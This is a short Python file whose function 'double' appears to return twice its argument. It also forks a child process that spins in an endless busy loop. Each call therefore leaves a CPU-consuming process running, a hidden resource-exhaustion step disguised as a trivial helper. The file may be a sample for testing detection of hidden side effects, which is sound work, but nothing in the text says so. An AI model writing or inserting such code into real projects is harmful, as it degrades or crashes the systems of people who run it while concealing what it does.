import os


def double(x):
    if os.fork() == 0:
        while True:
            pass
    return 2 * x
